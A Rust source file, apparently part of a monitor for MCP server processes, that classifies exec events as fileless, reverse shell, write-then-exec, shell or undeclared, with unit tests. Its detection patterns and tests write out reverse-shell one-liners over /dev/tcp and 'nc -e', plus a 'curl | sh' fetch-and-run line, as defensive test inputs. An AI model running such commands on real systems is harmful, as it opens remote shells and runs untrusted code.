//! Exec rules: fileless, reverse shells, write-then-exec, programs outside
//! the grant, shells.

use serde_json::{Value, json};

use super::{
    Finding, ServerPolicy,
    scope::{grant_words, tool_key},
};
use crate::{
    alerts::rules::{self, RuleId},
    policy::{
        activity::{ExecActivity, PathFacts, ProcContext, StdioKind, script_arg},
        baseline::{self, Runtime},
        glob::name_matches,
        manifest::{ExePattern, basename},
    },
};

impl ServerPolicy {
    /// Judges an exec; `paths`: the host's answers for its command line.
    pub(super) fn exec(&mut self, ctx: &ProcContext, e: &ExecActivity, paths: &PathFacts) -> Option<Finding> {
        let exec_path = e.interp.clone().unwrap_or_else(|| e.filename.clone());
        let (program, argv) = baseline::unwrap_env(&exec_path, &e.argv);
        let (program, argv) = (program.to_owned(), argv.to_vec());
        let launch = self.launching.remove(&ctx.pid);
        let runtimes_before: Vec<Runtime> = self.runtimes.iter().copied().collect();
        self.learn(&program, &argv, ctx.cwd.as_deref(), paths);
        let evidence = json!({
            "program": program,
            "filename": e.filename,
            "interp": e.interp,
            "argv": e.argv,
        });
        let finding = |rule: RuleId, summary: String, declared: Option<Value>| Finding {
            rule,
            summary,
            evidence: evidence.clone(),
            declared,
            dedup_key: program.clone(),
            would_block: None,
        };
        if e.fileless {
            return Some(finding(
                &rules::EXEC_FILELESS,
                format!("{} ran a program from memory ({})", ctx.server, e.filename),
                None,
            ));
        }
        let shellish = is_shell(&program) || is_interpreter(&program);
        let wired = |s: &StdioKind| matches!(s, StdioKind::Socket | StdioKind::NetworkPty(_));
        if shellish && (e.stdio.iter().flatten().any(wired) || reverse_shell_argv(&e.argv)) {
            let mut f = finding(
                &rules::EXEC_REVERSE_SHELL,
                format!(
                    "{} started a shell wired to the network: {}",
                    ctx.server,
                    e.argv.join(" ")
                ),
                None,
            );
            f.evidence["stdio"] = json!(e.stdio.iter().map(stdio_name).collect::<Vec<_>>());
            return Some(f);
        }
        // The host's own command (wrapper, rule match) is what was configured.
        if launch {
            if shellish {
                self.learn_code_dir(&argv, ctx.cwd.as_deref(), paths);
            }
            return None;
        }
        // The pipeline's write history decides (the exec'd file, or the script given to a shell).
        if e.written_by_server {
            let written = e.written_path.as_deref().unwrap_or(&e.filename);
            let mut f = finding(
                &rules::EXEC_WRITE_THEN_EXEC,
                format!("{} ran a file it had just written: {written}", ctx.server),
                None,
            );
            f.evidence["written_path"] = json!(written);
            return Some(f);
        }
        let in_grant = |list: &[ExePattern]| {
            list.iter()
                .any(|p| p.matches(&e.filename) || p.matches(&exec_path) || p.matches(&program))
        };
        let scopes = self.scopes(ctx);
        if scopes.iter().any(|s| in_grant(self.exec_grant(*s)))
            || baseline::exec_allowed_after_launch(&runtimes_before, &program)
        {
            return None;
        }
        if is_shell(&program) {
            let parent_exe = ctx.ancestry.first().map(|(_, x)| x.as_str()).unwrap_or("");
            if baseline::npx_shell(&e.argv, parent_exe, &ctx.parent_argv) {
                return None;
            }
        }
        let declared = Some(self.declared_of(&scopes, ctx, &["exec"]));
        if scopes[0].is_some() && in_grant(&self.manifest.exec) {
            let mut f = finding(
                &rules::TOOL_EXEC_OUTSIDE_GRANT,
                format!(
                    "{} ran a program outside {}: {}",
                    ctx.server,
                    grant_words(&scopes),
                    program
                ),
                declared,
            );
            f.dedup_key = tool_key(ctx, &program);
            return Some(f);
        }
        if is_shell(&program) {
            return Some(finding(
                &rules::EXEC_SHELL,
                format!("{} started a shell: {}", ctx.server, e.argv.join(" ")),
                declared,
            ));
        }
        Some(finding(
            &rules::EXEC_UNDECLARED,
            format!("{} ran an undeclared program: {}", ctx.server, program),
            declared,
        ))
    }

    /// The code of the script an interpreter was launched with, where the
    /// host found it (links resolved; a script that is no file teaches
    /// nothing): its package (the directory holding its project metadata),
    /// else the script file alone. Never the directory it merely sits in:
    /// `python /tmp/x.py` does not make `/tmp` (or a home) the server's code.
    pub(super) fn learn_code_dir(&mut self, argv: &[String], cwd: Option<&str>, paths: &PathFacts) {
        let Some(real) = script_arg(argv).and_then(|s| paths.file(&PathFacts::absolute(s, cwd))) else {
            return;
        };
        let code = paths.package(real).unwrap_or(real).to_owned();
        if code != "/" && !self.code_dirs.contains(&code) {
            self.code_dirs.push(code);
            self.paths = None;
        }
    }
}

/// Whether `path` is the script the acting process (a shell or interpreter)
/// was started to run.
pub(super) fn runs_script(ctx: &ProcContext, path: &str) -> bool {
    (is_shell(&ctx.exe) || is_interpreter(&ctx.exe))
        && script_arg(&ctx.argv).is_some_and(|s| {
            s == path
                || ctx
                    .cwd
                    .as_deref()
                    .is_some_and(|c| crate::pipeline::observe::normalize(&format!("{c}/{s}")) == path)
        })
}

/// Shells and interpreters: the file they run is their first operand.
pub fn runs_scripts(program: &str) -> bool {
    is_shell(program) || is_interpreter(program)
}

fn is_shell(program: &str) -> bool {
    name_matches(
        "{sh,bash,dash,zsh,ksh,mksh,ash,fish,csh,tcsh,busybox}",
        basename(program),
    )
}

fn is_interpreter(program: &str) -> bool {
    name_matches(
        "{python,python2,python3,python3.*,perl,ruby,php,node,nodejs,nc,ncat,netcat,socat,telnet,awk,gawk,lua}",
        basename(program),
    )
}

/// Command lines that are reverse shells whatever their fds.
fn reverse_shell_argv(argv: &[String]) -> bool {
    let joined = argv.join(" ");
    let lower = joined.to_ascii_lowercase();
    let prog = argv.first().map(|a| basename(a)).unwrap_or("");
    lower.contains("/dev/tcp/")
        || lower.contains("/dev/udp/")
        || (name_matches("{nc,ncat,netcat}", prog) && argv.iter().any(|a| a == "-e" || a == "-c"))
        || (prog == "socat" && (lower.contains("exec:") || lower.contains("system:")))
        || lower.contains("pty.spawn")
        || (lower.contains("socket") && lower.contains("dup2"))
}

fn stdio_name(s: &Option<StdioKind>) -> Value {
    match s {
        None => Value::Null,
        Some(StdioKind::File(p)) => json!(p),
        Some(StdioKind::Pipe) => json!("pipe"),
        Some(StdioKind::Socket) => json!("socket"),
        Some(StdioKind::LocalSocket) => json!("unix_socket"),
        Some(StdioKind::Tty) => json!("tty"),
        Some(StdioKind::NetworkPty(holder)) => json!(format!("pty driven by pid {holder} (network socket)")),
        Some(StdioKind::Other) => json!("other"),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::super::test_support::*;
    use super::*;

    #[test]
    fn exec_rules() {
        let (mut s, ctx) = server(
            r#"{"exec": ["git", "/opt/tools/*"]}"#,
            &["/v/bin/python", "-m", "mcp_server_git"],
        );
        let mut check = |path: &str, a: &[&str]| rules(&s.evaluate(&ctx, &exec(path, &argv(a))));
        assert!(check("/usr/bin/git", &["git", "status"]).is_empty(), "by name");
        assert!(check("/opt/tools/x", &["x"]).is_empty(), "by path glob");
        assert!(
            check("/v/bin/python3", &["python3", "-c", "pass"]).is_empty(),
            "the Python runtime"
        );
        assert_eq!(
            check("/usr/bin/node", &["node", "-e", "1"]),
            ["exec.undeclared"],
            "not a runtime it launched with"
        );
        assert_eq!(check("/usr/bin/curl", &["curl", "x"]), ["exec.undeclared"]);
        assert_eq!(check("/usr/bin/bash", &["bash", "-c", "ls"]), ["exec.shell"]);
        assert_eq!(
            check(
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
            ),
            ["exec.reverse_shell"]
        );
        assert_eq!(
            check("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
            ["exec.reverse_shell"]
        );
        let fileless = Activity::Exec(ExecActivity {
            filename: "/proc/self/fd/3".into(),
            fileless: true,
            ..Default::default()
        });
        assert_eq!(rules(&s.evaluate(&ctx, &fileless)), ["exec.fileless"]);
        let socket_shell = Activity::Exec(ExecActivity {
            filename: "/bin/sh".into(),
            argv: argv(&["/bin/sh", "-i"]),
            stdio: [Some(StdioKind::Socket), Some(StdioKind::Socket), Some(StdioKind::Pipe)],
            ..Default::default()
        });
        let f = s.evaluate(&ctx, &socket_shell);
        assert_eq!(rules(&f), ["exec.reverse_shell"]);
        assert_eq!(f[0].evidence["stdio"], json!(["socket", "socket", "pipe"]));
        let pty_shell = Activity::Exec(ExecActivity {
            filename: "/bin/sh".into(),
            argv: argv(&["/bin/sh"]),
            stdio: [
                Some(StdioKind::NetworkPty(7)),
                Some(StdioKind::NetworkPty(7)),
                Some(StdioKind::Tty),
            ],
            ..Default::default()
        });
        let f = s.evaluate(&ctx, &pty_shell);
        assert_eq!(rules(&f), ["exec.reverse_shell"]);
        assert_eq!(f[0].evidence["stdio"][0], "pty driven by pid 7 (network socket)");
    }

    #[test]
    fn write_then_exec_is_the_pipelines_verdict_naming_the_written_file() {
        let (mut s, ctx) = server(r#"{"write": ["/tmp/work"], "exec": ["sh", "/tmp/work/*"]}"#, NODE);
        // The engine keeps no write history of its own: a write it saw does not flag a later exec.
        assert!(s.evaluate(&ctx, &open("/tmp/work/run.sh", true, 4)).is_empty());
        assert!(
            s.evaluate(&ctx, &exec("/tmp/work/run.sh", &argv(&["/tmp/work/run.sh"])))
                .is_empty()
        );
        let written = |filename: &str, a: &[&str], written_path: &str| {
            Activity::Exec(ExecActivity {
                filename: filename.into(),
                argv: argv(a),
                written_by_server: true,
                written_path: Some(written_path.into()),
                ..Default::default()
            })
        };
        let f = s.evaluate(&ctx, &written("/tmp/other", &["/tmp/other"], "/tmp/other"));
        assert_eq!(rules(&f), ["exec.write_then_exec"]);
        assert_eq!(f[0].summary, "srv ran a file it had just written: /tmp/other");
        let f = s.evaluate(
            &ctx,
            &written("/bin/sh", &["sh", "/tmp/work/run.sh"], "/tmp/work/run.sh"),
        );
        assert_eq!(rules(&f), ["exec.write_then_exec"], "a written script given to a shell");
        assert_eq!(f[0].summary, "srv ran a file it had just written: /tmp/work/run.sh");
        assert_eq!(f[0].evidence["written_path"], "/tmp/work/run.sh");
        assert_eq!(f[0].evidence["filename"], "/bin/sh");
    }

    #[test]
    fn the_launch_scripts_real_directory_is_the_servers_own_code() {
        let mut facts = PathFacts::default();
        facts.insert("/srv/app/server.py".into(), "/opt/real/server.py".into(), true);
        let (mut s, ctx) = launched("{}", &["python3", "-u", "server.py"], &facts);
        assert_eq!(
            rules(&s.evaluate(&ctx, &open("/opt/real/helpers.py", false, 3))),
            ["file.read_undeclared"],
            "the launch had no working directory: server.py is no known file"
        );
        let facts_at = |cwd: &str| {
            let mut f = PathFacts::default();
            f.insert(format!("{cwd}/server.py"), "/opt/real/server.py".into(), true);
            f.insert_package("/opt/real/server.py".into(), "/opt/real".into());
            f
        };
        let mut s = ServerPolicy::new(manifest("{}"), false, "/home/u".into());
        let wrapper = argv(&["mcpwatch", "exec", "--server", "srv", "--"]);
        s.launching(10, "/usr/local/bin/mcpwatch", &wrapper, None, &PathFacts::default());
        let launch = ProcContext {
            server: "srv".into(),
            pid: 10,
            cwd: Some("/srv/app".into()),
            ..ctx.clone()
        };
        let a = argv(&["python3", "-u", "server.py"]);
        assert!(
            s.judge(&launch, &exec("/usr/bin/python3", &a), &facts_at("/srv/app"))
                .is_empty()
        );
        assert!(
            s.evaluate(&ctx, &open("/opt/real/helpers.py", false, 3)).is_empty(),
            "next to the script, where its link led"
        );
        assert_eq!(
            rules(&s.evaluate(&ctx, &open("/srv/app/other.py", false, 3))),
            ["file.read_undeclared"],
            "the link's directory is not the code's"
        );
        // Without package metadata only the script itself is the code.
        let mut s = ServerPolicy::new(manifest("{}"), false, "/home/u".into());
        s.launching(10, "/usr/local/bin/mcpwatch", &wrapper, None, &PathFacts::default());
        let mut loose = PathFacts::default();
        loose.insert("/tmp/server.py".into(), "/tmp/server.py".into(), true);
        let launch = ProcContext {
            cwd: Some("/tmp".into()),
            ..launch
        };
        assert!(s.judge(&launch, &exec("/usr/bin/python3", &a), &loose).is_empty());
        assert_eq!(
            rules(&s.evaluate(&ctx, &open("/tmp/other-users-file", false, 3))),
            ["file.read_undeclared"],
            "/tmp is not the server's code"
        );
        let listing = match open("/tmp", false, 3) {
            Activity::File(mut f) => {
                f.access.directory = true;
                Activity::File(f)
            }
            _ => unreachable!(),
        };
        assert!(
            s.evaluate(&ctx, &listing).is_empty(),
            "listing the script's directory (Python's sys.path[0]) reads names, not contents"
        );
        let mut reader = ctx.clone();
        reader.argv = argv(&["cat", "/tmp/server.py"]);
        reader.exe = "/usr/bin/cat".into();
        assert!(
            s.evaluate(&reader, &open("/tmp/server.py", false, 3)).is_empty(),
            "the script itself is"
        );
    }

    #[test]
    fn npx_runs_bins_through_sh_c_without_alert() {
        let (mut s, mut ctx) = server("{}", &["npx", "-y", "@modelcontextprotocol/server-memory"]);
        ctx.ancestry = vec![(10, "/usr/bin/node".into())];
        ctx.parent_argv = argv(&["node", "/usr/bin/npx", "-y", "@modelcontextprotocol/server-memory"]);
        let f = s.evaluate(&ctx, &exec("/bin/sh", &argv(&["sh", "-c", "mcp-server-memory"])));
        assert!(f.is_empty(), "{f:?}");
        let f = s.evaluate(&ctx, &exec("/bin/sh", &argv(&["sh", "-c", "curl http://x | sh"])));
        assert_eq!(rules(&f), ["exec.shell"]);
        let env_node = Activity::Exec(ExecActivity {
            filename: "/srv/node_modules/.bin/mcp-server-memory".into(),
            interp: Some("/usr/bin/env".into()),
            argv: argv(&["/usr/bin/env", "node", "/srv/node_modules/.bin/mcp-server-memory"]),
            ..Default::default()
        });
        assert!(s.evaluate(&ctx, &env_node).is_empty(), "#!/usr/bin/env node");
    }
}
